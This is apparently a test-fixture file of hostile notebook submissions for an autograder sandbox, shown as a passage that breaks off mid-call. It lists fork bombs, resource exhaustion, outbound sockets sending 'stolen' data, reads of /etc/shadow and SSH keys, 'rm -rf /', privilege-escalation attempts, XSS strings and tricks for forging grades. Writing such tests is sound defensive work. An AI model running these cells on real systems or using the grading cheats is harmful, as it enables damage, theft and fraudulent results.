"""Hostile submissions: each does one bad thing beside otherwise right answers.

``PROGRAMS``: a code cell put before question 1 of a right notebook; "full" means that the right
answers must still get full automatic marks. ``CHEATS``: the answers are wrong and the cell tries
to be marked right anyway; no points may come of it. ``FILES``: what is handed in is itself odd.
"""

import json

from igf1lab.grading.demo import blob, notebook_with, right_answers

MARK = "IGF1LAB_HOSTILE"  # in the command line of every process a hostile cell starts

PROGRAMS = {
    "endless loop": ("while True: pass", "cell time limit"),
    "loop that swallows interrupts": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "client's deadline, rerun without the cell",
    ),
    "ignores the alarm": (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\nwhile True: pass",
        "client's deadline, rerun without the cell",
    ),
    "sleeps": ("import time; time.sleep(10_000)", "cell time limit"),
    "4 GiB of memory": ("a = bytearray(4 << 30)", "RLIMIT_DATA: MemoryError"),
    "memory in children": (
        "import os\nfor n in range(8):\n    if os.fork() == 0:\n        b = b'x' * (1200 << 20)\n"
        "        import time; time.sleep(100)\nimport time; time.sleep(100)",
        "supervisor's total, rerun without the cell",
    ),
    "fork bomb": (
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        "RLIMIT_NPROC and supervisor",
    ),
    "thread bomb": (
        "import threading, time\nfor n in range(5000):\n"
        "    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
        "RLIMIT_NPROC: RuntimeError",
    ),
    "100 MB of print": ("print('x' * 100_000_000)", "20 kB kept a cell"),
    "a million lines": ("for n in range(1_000_000): print(n)", "20 kB kept a cell"),
    "100 MB to raw descriptors": (
        "import os\nfor n in (1, 2):\n    for k in range(100): os.write(n, b'x' * 1_000_000)",
        "descriptors 1 and 2 are /dev/null",
    ),
    "floods the reply pipe": (
        "import os\nwhile True: os.write(10, b'x' * 1_000_000)",
        "6 MB a reply, then killed",
    ),
    "closes every descriptor": ("import os; os.closerange(0, 256)", "rerun without the cell"),
    "os._exit": ("import os; os._exit(0)", "rerun without the cell"),
    "sys.exit and exit()": ("import sys\ntry: exit()\nfinally: sys.exit(3)", "the shell"),
    "segfault": ("import ctypes; ctypes.string_at(0)", "rerun without the cell"),
    "recursion": ("def f(n): return f(n + 1)\nf(0)", "RecursionError"),
    "kills everybody": ("import os\nos.kill(-1, 9)", "pid namespace, rerun without the cell"),
    "kills its supervisor": (
        "import os, signal\nfor s in (9, 15, 19): os.kill(1, s)\nos.kill(os.getppid(), 9)",
        "pid 1 of the namespace takes no signal from inside",
    ),
    "stops itself": ("import os; os.kill(os.getpid(), 19)", "client's deadline, rerun"),
    "daemon left behind": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('python3', ['python3', '-c', 'import time; time.sleep(600)', '{MARK}'])\n"
        "    os._exit(0)",
        "dies with the pid namespace",
    ),
    "network": (
        "import socket\nfor where in (('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)):\n"
        "    try:\n        socket.create_connection(where, 1).send(b'stolen')\n"
        "        open('/tmp/REACHED', 'w')\n    except OSError: pass",
        "network namespace, seccomp",
    ),
    "names and datagrams": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'stolen', ('127.0.0.1', {port}))\nexcept OSError: pass\n"
        "try: socket.getaddrinfo('example.org', 80)\nexcept OSError: pass",
        "network namespace, seccomp",
    ),
    "abstract Unix socket": (
        "import socket\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    try:\n"
        "        s = socket.socket(socket.AF_UNIX, kind); s.connect('\\0igf1lab-hostile-{port}')\n"
        "        s.send(b'stolen')\n    except OSError: pass",
        "network namespace, seccomp refuses connect",
    ),
    "spy": (
        "import os, pathlib\nseen = []\nfor place in ('{private}', '/etc/shadow', '/etc/passwd', '/root/.ssh',"
        " '{root}/solutions', '{root}/assets/exercises', '{root}/.git', '/submission'):\n"
        "    try: seen += [str(p) for p in pathlib.Path(place).rglob('*')] or [open(place).read()]\n"
        "    except OSError: pass\nprint('SEEN', [s for s in seen if 'my_numbers' not in s])",
        "none of it is mounted",
    ),
    "writes the gradebook": (
        "import sqlite3\ntry:\n    db = sqlite3.connect('{private}/gradebook.db')\n"
        "    db.execute('UPDATE grade SET manual_score = 999'); db.commit()\nexcept Exception as e: print(e)",
        "not mounted",
    ),
    "writes the package's files": (
        "import igf1lab.exercises.judging as j, numpy\nfor f in (j.__file__, numpy.__file__,"
        " '{root}/solutions/HOSTILE', '{root}/exercises/HOSTILE', '/usr/lib/HOSTILE'):\n"
        "    try: open(f, 'a').write('# HOSTILE')\n    except OSError: pass",
        "read-only mounts",
    ),
    "leaves something for the next": (
        "for d in ('/tmp', '/scratch', '/submission', '/server', '/dev/shm', '/dev/mqueue', '/var/tmp'):\n"
        "    try: open(d + '/HOSTILE', 'w').write('x')\n    except OSError: pass",
        "own tmpfs a submission",
    ),
    "looks for leftovers": (
        "import os\nprint('LEFT', [d for d in ('/tmp', '/scratch', '/submission', '/server', '/dev/shm')"
        " if os.path.exists(d + '/HOSTILE')])",
        "own tmpfs a submission",
    ),
    "fills the disk": (
        "for d in ('/tmp', '/submission', '/dev/shm'):\n    try:\n        with open(d + '/big', 'wb') as f:\n"
        "            for n in range(2000): f.write(b'x' * 1_000_000)\n    except OSError: pass",
        "tmpfs size, RLIMIT_FSIZE",
    ),
    "a million files": (
        "try:\n    for n in range(1_000_000): open(f'/tmp/{n}', 'w').close()\nexcept OSError: pass",
        "tmpfs inodes",
    ),
    "new namespaces and mounts": (
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\nfor flag in (0x10000000, 0x20000, 0x40000000):\n"
        "    assert l.unshare(flag) != 0\nassert l.mount(b'none', b'/tmp', b'tmpfs', 0, None) != 0\n"
        "assert l.umount2(b'/submission', 2) != 0\nassert l.chroot(b'/tmp') != 0",
        "no capabilities, seccomp",
    ),
    "reads other processes": (
        "import ctypes, os\nl = ctypes.CDLL(None)\nassert l.ptrace(16, 1, 0, 0) == -1\n"
        "assert [p for p in os.listdir('/proc') if p.isdigit() and int(p) > 1 and int(p) != os.getpid()] == []\n"
        "try: open('/proc/1/mem', 'rb').read(1); raise SystemError('read pid 1')\nexcept OSError: pass",
        "pid namespace, seccomp",
    ),
    "raises its limits": (
        "import resource\nfor w in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC):\n    try:\n"
        "        resource.setrlimit(w, (resource.RLIM_INFINITY,) * 2); raise SystemError('raised')\n"
        "    except (ValueError, OSError): pass",
        "hard limits, no capabilities",
    ),
    "becomes root": (
        "import os\nfor f in (os.setuid, os.seteuid, os.setgid):\n    try: f(0); raise SystemError('root')\n"
        "    except OSError: pass\nos.system('su -c id root; sudo -n id; mount')",
        "no_new_privs, uid 65534",
    ),
    "reads stdin": ("answer = input('your password? ')", "stdin is /dev/null: EOFError"),
    "breaks stdout": ("import sys\nsys.stdout.close(); sys.stdout = None; sys.stderr = None", "own stream"),
    "breaks json": (
        "import json\njson.dumps = lambda *a, **k: 'not json'\njson.loads = None",
        "reply refused, rerun without the cell",
    ),
    "breaks builtins": (
        "import builtins, os\nbuiltins.open = builtins.len = builtins.float = builtins.isinstance = None",
        "reply refused, rerun without the cell",
    ),
    "breaks numpy and pyplot": (
        "import numpy, matplotlib.pyplot as p\nkeep = numpy.asarray\nnumpy.asarray = None\np.close = p.get_fignums = None",
        "rerun without the cell",
    ),
    "endless repr": (
        "class E:\n    def __repr__(self):\n        while True: pass\nE()",
        "cell time limit",
    ),
    "huge image": (
        "import matplotlib.pyplot as plt\nfigure, axes = plt.subplots(figsize=(600, 600), dpi=100)",
        "memory or time limit, image size",
    ),
    "deletes its folder": ("import os, shutil\nshutil.rmtree('/submission', ignore_errors=True)", "own tmpfs"),
    "symbolic links": (
        "import os\nfor n, t in enumerate(('/etc/shadow', '/proc/1/root', '{private}', '/')):\n"
        "    os.symlink(t, f'/submission/link{n}.ipynb')",
        "own tmpfs, nothing is read back",
    ),
    "warnings": ("import warnings, sys\nwarnings.warn('careful'); print('x', file=sys.stderr)", "kept as text"),
    "shell and magics": ("%matplotlib inline\n!rm -rf / --no-preserve-root 2>/dev/null\n%cd /", "read-only"),
    "odd text": ("print('\\ud800 \\x00 \\u202e שלום', '</script><script>alert(1)</script>')", "cleaned"),
    # --- other members of the same kinds -----------------------------------------------------
    "spinners, each with a session": (
        "import os\nfor n in range(26):\n    if os.fork() == 0:\n        try: os.setsid()\n        except OSError: pass\n"
        "        while True: pass",
        "one processor a submission, no sessions",
    ),
    "fork storm whose dead nobody counts": (
        "import os, signal\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\nif os.fork() == 0:\n    while True:\n"
        "        try:\n            if os.fork() == 0: os._exit(0)\n        except OSError: pass",
        "one processor a submission, dies with the run",
    ),
    "computes where no signal is heard": ("n = 7 ** (7 ** 9)", "client's deadline, rerun"),
    "a pattern without end": ("import re; re.match('(a+)+$', 'a' * 64 + 'b')", "cell time limit or deadline"),
    "blocks every signal": (
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass",
        "client's deadline, rerun",
    ),
    "waits for a pipe": ("import os\nos.mkfifo('/tmp/f')\nopen('/tmp/f').read()", "cell time limit"),
    "a storm of timers": (
        "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.setitimer(signal.ITIMER_REAL, 1e-5, 1e-5)",
        "timers are set anew for each step",
    ),
    "joins a thread that never ends": (
        "import threading, time\nt = threading.Thread(target=time.sleep, args=(1000,)); t.start(); t.join()",
        "cell time limit",
    ),
    "writes the first process's memory": (
        "import ctypes, os\nl = ctypes.CDLL(None)\nfor mode in ('r+b', 'rb', 'wb'):\n    try:\n"
        "        open('/proc/1/mem', mode); raise SystemError('opened')\n    except OSError: pass\n"
        "b = ctypes.create_string_buffer(8); v = (ctypes.c_void_p * 2)(ctypes.addressof(b), 8)\n"
        "assert l.process_vm_writev(1, v, 1, v, 1, 0) == l.process_vm_readv(1, v, 1, v, 1, 0) == -1\n"
        "assert l.ptrace(16, 1, 0, 0) == l.ptrace(0x4206, 1, 0, 0) == -1",
        "the first process is not dumpable; seccomp",
    ),
    "takes the first process's descriptors": (
        "import ctypes, os\nl = ctypes.CDLL(None); p = os.pidfd_open(1)\n"
        "assert all(l.syscall(438, p, n, 0) == -1 for n in range(12))\nassert l.syscall(312, 1, os.getpid(), 0, 0, 0) == -1\n"
        "try: os.listdir('/proc/1/fd'); raise SystemError('listed')\nexcept OSError: pass",
        "seccomp, not dumpable",
    ),
    "limits the first process": (
        "import resource\ntry: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)); raise SystemError('limited')\nexcept OSError: pass",
        "seccomp: one's own limits only",
    ),
    "signals the first process": (
        "import os, signal\nfor n in range(1, 65):\n    try: os.kill(1, n); signal.pidfd_send_signal(os.pidfd_open(1), n)\n"
        "    except OSError: pass",
        "a first process has no handlers",
    ),
    "a name that looks like numbers": (
        "import ctypes, os\nctypes.CDLL(None).prctl(15, b') Z 0 0 0 0', 0, 0, 0)\n"
        "for n in range(6):\n    if os.fork() == 0:\n        b = b'x' * (900 << 20)\n        import time; time.sleep(60)\n"
        "import time; time.sleep(60)",
        "the watcher reads from the last bracket",
    ),
    "shared anonymous memory": (
        "import mmap\ntry: mmap.mmap(-1, 4 << 30).write(b'x' * (1 << 30)); raise SystemError('got it')\nexcept OSError: pass",
        "seccomp",
    ),
    "shared memory from /dev/zero": (
        "import mmap\ntry:\n    with open('/dev/zero', 'r+b') as f: m = mmap.mmap(f.fileno(), 1 << 30)\n"
        "    raise SystemError('got it')\nexcept (OSError, ValueError): pass",
        "/dev/zero is empty",
    ),
    "memory files": (
        "import ctypes, os\ntry: os.memfd_create('x'); raise SystemError('got it')\nexcept OSError: pass\n"
        "assert ctypes.CDLL(None).syscall(447, 0) == -1",
        "seccomp",
    ),
    "System V memory": (
        "import ctypes\nl = ctypes.CDLL(None)\nassert l.shmget(0, 1 << 30, 0o1600) == l.semget(0, 1, 0o1600) == l.msgget(0, 0o1600) == -1",
        "seccomp",
    ),
    "shared memory, unlinked and mapped": (
        "import mmap, os\nheld = []\ntry:\n    for n in range(200):\n        f = open(f'/dev/shm/{n}', 'w+b'); f.truncate(16 << 20)\n"
        "        held.append(mmap.mmap(f.fileno(), 16 << 20)); os.unlink(f'/dev/shm/{n}'); held[-1].write(b'x' * (16 << 20))\n"
        "except (OSError, ValueError): pass",
        "tmpfs size: killed by SIGBUS",
    ),
    "a mapping that grows downwards": (
        "import ctypes, mmap\nl = ctypes.CDLL(None); l.mmap.restype = ctypes.c_void_p; held = []\nfor n in range(5):\n"
        "    a = l.mmap(None, ctypes.c_size_t(900 << 20), 3, 0x122, -1, 0)\n"
        "    if a and a != 2 ** 64 - 1: ctypes.memset(a, 1, 900 << 20)",
        "RLIMIT_DATA or the watcher",
    ),
    "sockets that nobody reads": (
        "import socket\nheld = []\ntry:\n    while True:\n        a, b = socket.socketpair(); held += [a, b]; a.setblocking(False)\n"
        "        try:\n            while True: a.send(b'x' * 65536)\n        except BlockingIOError: pass\nexcept OSError: pass",
        "RLIMIT_NOFILE; no larger buffers; counted",
    ),
    "sockets that nobody reads, of many processes": (
        "import os, socket, time\nfor n in range(25):\n    if os.fork() == 0:\n        held = []\n        try:\n            while True:\n"
        "                a, b = socket.socketpair(); held += [a, b]; a.setblocking(False)\n                try:\n"
        "                    while True: a.send(b'x' * 65536)\n                except BlockingIOError: pass\n"
        "        except OSError: time.sleep(60)\ntime.sleep(60)",
        "counted by the watcher",
    ),
    "larger pipes": (
        "import fcntl, os\nr, w = os.pipe()\ntry: fcntl.fcntl(w, 1031, 1 << 20); raise SystemError('larger')\nexcept OSError: pass",
        "seccomp",
    ),
    "a sparse file of a terabyte": (
        "import os\ntry:\n    with open('/tmp/sparse', 'wb') as f: f.truncate(1 << 40)\nexcept OSError: pass", "RLIMIT_FSIZE",
    ),
    "an array of 28 GB": ("import numpy\nnumpy.ones((60_000, 60_000))", "RLIMIT_DATA: MemoryError"),
    "raises its priority": (
        "import os\nfor f in (lambda: os.nice(-5), lambda: os.setpriority(os.PRIO_USER, 65534, -9),\n"
        "          lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))):\n"
        "    try: f(); raise SystemError('raised')\n    except OSError: pass",
        "RLIMIT_NICE, RLIMIT_RTPRIO, seccomp",
    ),
    "moves to every processor": (
        "import os\ntry: os.sched_setaffinity(0, range(os.cpu_count())); raise SystemError('moved')\nexcept OSError: pass\n"
        "assert len(os.sched_getaffinity(0)) == 1",
        "seccomp",
    ),
    "makes everybody yield": (
        "import os\ntry: os.setpriority(os.PRIO_PROCESS, 1, 19); raise SystemError('reniced')\nexcept OSError: pass", "seccomp",
    ),
    "clones into namespaces": (
        "import ctypes\nl = ctypes.CDLL(None)\nfor f in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000):\n"
        "    assert l.syscall(56, f | 17, 0, 0, 0, 0) == -1\nassert l.syscall(435, 0, 0) == -1",
        "seccomp",
    ),
    "rare system calls": (
        "import ctypes\nl = ctypes.CDLL(None)\nassert all(l.syscall(n, 0, 0, 0, 0) == -1 for n in (425, 321, 323, 298, 248, 250, 304, 300, 135))",
        "seccomp",
    ),
    "sockets of every family": (
        "import socket\nfor family in range(2, 46):\n    for kind in (1, 2, 3, 5):\n        try: socket.socket(family, kind); raise SystemError('opened')\n"
        "        except OSError: pass",
        "seccomp",
    ),
    "opens a port": (
        "import socket\nfor where in ('\\0igf1lab-port', '/tmp/port'):\n    try: socket.socket(socket.AF_UNIX).bind(where); raise SystemError('bound')\n"
        "    except OSError: pass",
        "seccomp",
    ),
    "another Python, without the filter": (
        "import subprocess, sys\nout = subprocess.run([sys.executable, '-c', 'import socket\\ntry: socket.socket(2); print(1)\\n"
        "except OSError: print(0)'], capture_output=True, text=True).stdout\nassert '1' not in out",
        "filters are inherited",
    ),
    "settings of the kernel": (
        "for f in ('/proc/sys/kernel/core_pattern', '/proc/sys/user/max_user_namespaces', '/proc/sysrq-trigger', '/proc/1/oom_score_adj',\n"
        "          '/sys/fs/cgroup/cgroup.procs', '/proc/1/autogroup'):\n    try: open(f, 'w').write('1'); raise SystemError(f)\n    except OSError: pass",
        "no capabilities, seccomp",
    ),
    "owner, mode and times of our files": (
        "import os, numpy\nf = numpy.__file__\nfor g in (lambda: os.chmod(f, 0o777), lambda: os.utime(f), lambda: os.chown(f, os.getuid(), -1),\n"
        "          lambda: os.setxattr(f, 'user.x', b'1'), lambda: os.link(f, '/tmp/x')):\n    try: g(); raise SystemError('changed')\n"
        "    except OSError: pass",
        "read-only mounts",
    ),
    "looks at the environment": (
        "import os\nprint('ENV', [k for k, v in os.environ.items() if '{private}' in v or 'COURSE' in k or 'SECRET' in k])", "its own environment",
    ),
    "closes its folder to itself": ("import os\nos.chmod('/submission', 0)", "nothing is read back"),
    "sends its descriptors": (
        "import socket\ns = socket.socket(fileno=10)\ntry: socket.send_fds(s, [b'{}'], [0, 1, 2])\nfinally: s.detach()",
        "the client takes bytes only",
    ),
    "hangs up": ("import socket\ns = socket.socket(fileno=10)\ns.shutdown(socket.SHUT_RDWR); s.detach()", "rerun without the cell"),
    "a reply of brackets": ("import os\nos.write(10, b'[' * 2_000_000 + b'\\n')", "pieces of a reply"),
    "a reply of a million dicts": (
        "import os\nos.write(10, b'{\"outputs\": [' + b'{},' * 900_000 + b'1]}\\n')",
        "pieces of a reply",
    ),
    "a reply of huge numbers": (
        "import os\nos.write(10, b'{\"outputs\": [' + b'9' * 100_000 + b']}\\n')", "refused, rerun without the cell",
    ),
    "a reply in odd bytes": ("import os\nos.write(10, bytes(range(256)) * 9 + b'\\n')", "refused, rerun without the cell"),
    "forges time-outs": (
        "import igf1lab.grading.sandbox.student as s\nraise s.CellTimeout('\\x1b[2J\\r[9/9] eve: 20 points')", "run again alone; cleaned",
    ),
    "forged outputs of every later cell": (
        "import igf1lab.grading.sandbox.student as s\nrow = {'type': 'display', 'text': 'x', 'png': 'A' * 999_996}\n"
        "class Rows(list):\n    pass\ns.Outputs.clear = lambda self: (setattr(self, 'rows', [dict(row) for n in range(5)]), setattr(self, '_room', 9))",
        "10 MB a submission",
    ),
    "an error text for the terminal": (
        "raise ValueError('\\x1b]0;owned\\x07\\r\\n[99/99] eve: 20 points\\u202e\\ud800\\x9b2J')", "cleaned; one line on the terminal",
    ),
    "an error of an odd name": ("raise type('\\x1b[2J\\n<b>', (Exception,), {'__str__': lambda s: 1 / 0})()", "cleaned"),
    "an error that cannot be told": (
        "class E(Exception):\n    def __getattribute__(s, n): raise s\n    __str__ = __repr__ = lambda s: s + 1\nraise E", "rerun without the cell",
    ),
    "hooks into everything": (
        "import sys, os, gc\nsys.meta_path.insert(0, None); sys.path_hooks.clear()\ngc.callbacks.append(lambda *a: os._exit(1))\n"
        "os.register_at_fork(after_in_child=lambda: os._exit(1))\ngc.collect()",
        "rerun without the cell",
    ),
    "traces every line": ("import sys, time\nsys.settrace(lambda *a: time.sleep(0.3))\nf = lambda: 1\nf()\nsys.setprofile(lambda *a: 1 / 0)", "cell time limit"),
    "an audit hook that refuses": (
        "import sys\ndef hook(event, *a):\n    if event.startswith(('subprocess', 'os.')): raise RuntimeError('no')\n"
        "sys.addaudithook(hook)",
        "ran, harmless",
    ),
    "finalisers that run for ever": (
        "class D:\n    def __del__(self):\n        while True: pass\nd = D(); d = None", "cell time limit",
    ),
    "a name of other bytes": (
        "import ctypes, time\nctypes.CDLL(None).prctl(15, b'\\xff\\xfe', 0, 0, 0)\ntime.sleep(0.15)", "the watcher reads any bytes",
    ),
    "empty replies without end": (
        "import os\nwhile True: os.write(10, b'{}\\n' * 20_000)", "each costs as much as a longer one",
    ),
    "descriptions in descriptions": (
        "import igf1lab.grading.sandbox.student as s\nd, n = s.describe_name, [0]\ndef nested(*a):\n    n[0] += 1\n"
        "    deep = {'is': 'blank'}\n    for k in range(400): deep = {'is': 'calls', 'returned': [deep]}\n"
        "    return {'is': 'blank', 'returned': deep, 'points': 99, 'ours': True} | d(*a)\ns.describe_name = nested",
        "cleaned",
    ),
    "stops its siblings": (
        "import os\nfor p in range(1, 60):\n    if p != os.getpid():\n        try: os.kill(p, 19)\n        except OSError: pass", "its own namespace",
    ),
    "handles, watches and notifications": (
        "import ctypes\nl = ctypes.CDLL(None); l.syscall(317, 1, 8, 0); b = ctypes.create_string_buffer(b'\\x80', 136); m = ctypes.c_int()\n"
        "l.name_to_handle_at(-100, b'/tmp', b, ctypes.byref(m), 0); assert l.syscall(304, 3, b, 0) == -1\nf = l.inotify_init()\n"
        "for n in range(2000): l.inotify_add_watch(f, b'/tmp', 0xfff)\nt = ctypes.c_int()\n"
        "for n in range(20_000): l.timer_create(1, None, ctypes.byref(t))",
        "seccomp; its own limits",
    ),
    "display hooks that fail": (
        "ip = get_ipython()\nip.display_formatter.formatters['text/plain'].for_type(int, lambda *a: 1 / 0)\n"
        "import sys; sys.displayhook = sys.excepthook = None\nip.ast_transformers.append(type('T', (), {'visit': lambda s, n: 1 / 0})())",
        "ran, harmless",
    ),
    "modules taken away": (
        "import sys\nfor m in list(sys.modules):\n    if m.startswith(('igf1lab.exercises', 'json', 'numpy')): sys.modules[m] = None", "ran, harmless",
    ),
    "a long number": ("import sys\nsys.set_int_max_str_digits(0)\nx = 10 ** 2_000_000\nprint(x)", "20 kB kept a cell; time limit"),
}  # fmt: skip

CHEATS = {
    "names a probe as a missing package": (
        "import builtins, igf1lab.grading.sandbox.student as s\nkept = []\nclass Keep:\n    def __call__(self, *a): kept.append(a)\n"
        "def clear(self):\n    says = \"No module named 'PROBE_\" + '_'.join(map(str, kept))\n    self._room = 9\n"
        "    self.rows = [{'type': 'error', 'name': 'ModuleNotFoundError', 'says': says}] if kept else []\n"
        "s.Outputs.clear = clear\nbuiltins.YES = Keep()",
        "only what stands in the notebook is named",
    ),
    "a choice of all letters": (
        "import builtins\nbuiltins.YES = type('S', (str,), {'__str__': lambda s: 'a b c d 1 2 3 4', 'casefold': lambda s: 'a1'})('z')",
        "one letter, one number",
    ),
    "lies about its class and size": (
        "import builtins, numpy\nclass L(numpy.ndarray):\n    size = property(lambda s: 1)\n    shape = property(lambda s: (10 ** 18,))\n"
        "    __class__ = property(lambda s: float)\nbuiltins.YES = numpy.zeros(3).view(L)",
        "answers travel as plain numbers",
    ),
    "replaces the judge": (
        "import igf1lab.exercises.judging as j, igf1lab.exercises.exercise as c\n"
        "right = lambda q, k, d: j.Verdict(q.id, 'right', q.points, q.points)\n"
        "j.judge = c.judge = right\nc.Exercise.check = lambda *a: 3.0",
        "judged outside",
    ),
    "rewrites every cell": (
        "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: "
        "['3.0\\n'] if any('check' in l for l in lines) else lines)",
        "judged outside",
    ),
    "forges replies": (
        "import os, json\nfor n in range(30):\n    os.write(10, (json.dumps({'outputs': [{'type': 'result',"
        " 'text': '3.0'}], 'described': {'is': 'right', 'points': 99}}) + '\\n').encode())",
        "replies carry answers, never points",
    ),
    "hunts for keys": (
        "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]\n"
        "print('FOUND', len(found))",
        "keys never enter the process",
    ),
    "an answer equal to everything": (
        "class Yes(float):\n    __eq__ = lambda s, o: True\n    __le__ = __ge__ = __eq__\n"
        "    __array__ = lambda s, *a, **k: s\nimport builtins\nbuiltins.YES = Yes(1)",
        "answers travel as plain numbers",
    ),
    "finds the caller's answers": (
        "import sys, inspect\nseen = []\nf = sys._getframe()\nwhile f:\n    seen += [k for k in f.f_locals if 'expected' in k or k == 'keys']\n"
        "    f = f.f_back\nprint('FOUND', len(seen))",
        "keys never enter the process",
    ),
    "reads the public keys": (
        "import json, igf1lab.evidence as e\nseen = [p for p in (e.assets_dir() / 'exercises').glob('*')]\nprint('FOUND', len(seen))",
        "not mounted",
    ),
    "tells a probe by the name of a class": (
        "import builtins\nclass Tell:\n    def __call__(self, *a): raise type('PROBE' + repr(a), (ValueError,), {})('PROBE' + repr(a))\n"
        "builtins.YES = Tell()",
        "after a probe only our own words come back",
    ),
    "keeps probes for later answers": (
        "import builtins\nkept = builtins.kept = []\nclass Keep:\n    def __call__(self, *a): kept.append(a); return -1.0\n"
        "    def __array__(self, *a, **k): raise ValueError('PROBE' + repr(kept))\nbuiltins.YES = Keep()",
        "after a probe only our own words come back",
    ),
}


def right_notebook(source, cell: str | None = None):
    """Return a notebook of right answers, with one code cell before question 1."""
    import nbformat

    notebook = notebook_with(source, right_answers(source))
    if cell is not None:
        here = next(n for n, c in enumerate(notebook.cells) if c.id == "q1-answer")
        notebook.cells.insert(here, nbformat.v4.new_code_cell(cell, id="hostile"))
    return notebook


def cheat_notebook(source, cell: str):
    """Return a notebook of wrong answers with a cheating cell before question 1."""
    import nbformat

    answers = {}
    for question in source.exercise_set.questions:
        if question.kind == "function":
            answers[question.id] = f"{question.answer} = globals().get('YES', lambda *a: -123.456)"
        elif question.automatic:
            answers[question.id] = f"{question.answer} = globals().get('YES', -123.456)"
    notebook = notebook_with(source, answers)
    here = next(n for n, c in enumerate(notebook.cells) if c.id == "q1-answer")
    notebook.cells.insert(here, nbformat.v4.new_code_cell(cell, id="hostile"))
    return notebook


def files(source, name: str) -> dict[str, tuple[bytes, str, str]]:
    """Return odd files: kind -> (bytes, "full" or "unreadable", contained by)."""
    import nbformat

    whole = right_notebook(source)
    odd = {}

    def add(kind, content, expect, by):
        odd[kind] = (content if isinstance(content, bytes) else blob(content), expect, by)

    add("0 bytes", b"", "unreadable", "reader")
    add("not JSON", b"PK\x03\x04 a zip, perhaps", "unreadable", "reader")
    add("deeply nested JSON", b"[" * 500_000, "unreadable", "reader")
    add("JSON, not a notebook", b'{"a": 1}', "unreadable", "reader")
    add("not UTF-8", b'{"cells": "\xff\xfe"}', "unreadable", "reader")
    huge_number = b'{"cells": [], "nbformat": ' + b"9" * 5000 + b', "metadata": {}}'
    add("huge number", huge_number, "unreadable", "reader")
    many = json.loads(blob(whole))
    many["cells"] += [{"cell_type": "code", "source": "1", "metadata": {}}] * 100_000
    add("100 000 cells", json.dumps(many).encode(), "unreadable", "cell count")
    other = json.loads(blob(whole))
    other["metadata"] = {"kernelspec": {"name": "ir", "language": "R", "display_name": "R"}}
    add("another kernel", json.dumps(other).encode(), "unreadable", "reader: not Python")
    named = json.loads(blob(whole))
    named["metadata"]["kernelspec"] = {"name": "my-env", "language": "python", "display_name": "My"}
    add("kernel of another name", json.dumps(named).encode(), "full", "name is not used")
    old = nbformat.convert(nbformat.reads(blob(whole).decode(), as_version=4), 3)
    add(
        "nbformat 3",
        nbformat.writes(old, version=3).encode(),
        "full",
        "nbformat, roles found again",
    )
    bare = json.loads(blob(whole))
    for cell in bare["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
    bare["nbformat_minor"] = 4
    add("ids and metadata stripped", json.dumps(bare).encode(), "full", "roles found again")
    copied = json.loads(blob(whole))
    copied["cells"] = [c for cell in copied["cells"] for c in (cell, cell)]
    add("every cell copied", json.dumps(copied).encode(), "full", "first of a role keeps it")
    cut = json.loads(blob(whole))
    cut["cells"] = [c for c in cut["cells"] if not c["id"].endswith("-check")]
    add("checks deleted", json.dumps(cut).encode(), "full", "put back")
    tampered = json.loads(blob(whole))
    for cell in tampered["cells"]:
        if cell["id"].endswith("-check"):
            cell["metadata"]["nbgrader"].update(points=100, locked=False, grade_id="q1")
            cell["source"] = "100.0"
    add(
        "checks replaced, 100 points",
        json.dumps(tampered).encode(),
        "full",
        "released checks are used",
    )
    strange = json.loads(blob(whole))
    extra = {
        "cell_type": "code",
        "metadata": {"nbgrader": 7},
        "source": "1",
        "outputs": [],
        "id": "a-b",
    }
    strange["cells"] += [extra | {"execution_count": None}]
    add("metadata of a wrong type", json.dumps(strange).encode(), "full", "reader")
    scripted = right_notebook(source, "from IPython.display import HTML, display\n"
        "display(HTML('<script>alert(1)</script>')); HTML('<img src=x onerror=alert(1)>')")  # fmt: skip
    scripted.cells.append(
        nbformat.v4.new_markdown_cell("<img src=x onerror=alert(1)> <script>a()</script>", id="md")
    )
    add("<script> and onerror", scripted, "full", "marked copy: plain text, PNG, escaped Markdown")
    poisoned = json.loads(blob(whole))
    poisoned["metadata"]["kernelspec"]["display_name"] = "\ud800\x1b[2J"
    for number, cell in enumerate(poisoned["cells"]):
        cell["metadata"]["\ud800"] = ["\udfff", "\x1b[2J\n", number]
    poisoned["cells"] += [
        {
            "cell_type": kind,
            "id": f"\ud800{kind}\x1b[2J",
            "metadata": {},
            "source": "# \ud800\x1b\u202e",
        }
        for kind in ("code", "markdown", "raw")
    ]
    add(
        "halves of characters everywhere",
        json.dumps(poisoned).encode(),
        "full",
        "cleaned at the door",
    )
    spoken = json.loads(blob(whole))
    spoken["metadata"] = {"kernelspec": {"language": "R\x1b[2J\n[9/9] eve: 20 points\ud800"}}
    add("a language for the terminal", json.dumps(spoken).encode(), "unreadable", "cleaned")
    cells = [{"cell_type": "code", "input": "1", "outputs": [], "language": "python"}] * 250_000
    third = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}
    add(
        "nbformat 3, 250 000 cells",
        json.dumps(third).encode(),
        "unreadable",
        "pieces are counted first",
    )
    heavy = json.loads(blob(whole))
    heavy["cells"][2]["outputs"] = "HERE"
    crowd = b"[" + b"[]," * 3_000_000 + b"[]]"
    add(
        "outputs of brackets",
        json.dumps(heavy).encode().replace(b'"HERE"', crowd),
        "unreadable",
